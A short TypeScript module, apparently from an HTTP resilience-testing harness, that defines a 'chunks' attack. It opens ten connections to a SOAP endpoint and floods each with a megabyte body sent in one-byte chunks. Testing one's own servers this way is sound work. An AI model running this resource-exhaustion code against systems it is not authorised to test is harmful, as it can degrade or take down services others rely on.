import type { Attack } from '../attack.ts';
import { countStatus, headOf, keep } from '../wire.ts';

const head = headOf('/v2/soap11', 'Transfer-Encoding: chunked\r\n');
/** A body of one megabyte in chunks of one byte: six megabytes on the network. */
const body = '1\r\n \r\n'.repeat(1_000_000);

export const chunks: Attack = {
  name: 'chunks',
  says: 'ten connections, each sending bodies of 1 MB in chunks of one byte',
  run: async (target) => {
    await keep(10, target, (socket) => {
      countStatus(socket, target).write(head);
      socket.end(`${body}0\r\n\r\n`);
    });
    return [];
  },
};
